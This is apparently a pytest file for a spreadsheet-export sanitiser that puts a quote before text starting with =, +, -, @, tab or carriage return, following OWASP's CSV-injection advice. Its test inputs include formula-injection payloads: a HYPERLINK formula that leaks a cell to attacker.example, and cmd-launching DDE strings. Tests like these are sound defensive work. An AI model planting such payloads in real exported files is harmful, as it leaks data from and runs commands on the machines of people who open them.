"""brainops.exports.neutralise: OWASP's CSV-injection rule for every text cell of our exports."""

from __future__ import annotations

import csv
import io
from datetime import date, datetime
from decimal import Decimal

import pytest

from brainops.exports import FORMULA_TRIGGERS, neutralise, neutralise_row


@pytest.mark.parametrize("text", [
    '=HYPERLINK("http://attacker.example/?leak="&C9,"Details")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=",
    "-",
])
def test_text_that_could_start_a_formula_gets_a_quote_in_front(text: str) -> None:
    assert neutralise(text) == "'" + text


def test_each_trigger_is_covered() -> None:
    assert set(FORMULA_TRIGGERS) == {"=", "+", "-", "@", "\t", "\r"}
    for trigger in FORMULA_TRIGGERS:
        assert neutralise(f"{trigger}x") == f"'{trigger}x"


@pytest.mark.parametrize("text", ["", "Rental income", "Net operating income (row 12)", "a=b", "x-1", "100",
                                  "'=already quoted", "#N/A", " =1+1", "\n=1+1", "Ünïcode = fine"])
def test_safe_text_is_untouched(text: str) -> None:
    assert neutralise(text) is text


@pytest.mark.parametrize("value", [-300, -12.5, Decimal("-1234.56"), 0, 42, True, None, date(2026, 1, 1),
                                   datetime(2026, 1, 1, 12, 30)])
def test_numbers_and_other_values_are_untouched(value: object) -> None:
    assert neutralise(value) is value


def test_a_csv_row_reads_back_as_text_and_numbers() -> None:
    out = io.StringIO()
    csv.writer(out).writerow(neutralise_row(["=1+1", "@A1", "Rent", Decimal("-50.00"), -3, None]))
    (row,) = csv.reader(io.StringIO(out.getvalue(), newline=""))
    assert row == ["'=1+1", "'@A1", "Rent", "-50.00", "-3", ""]
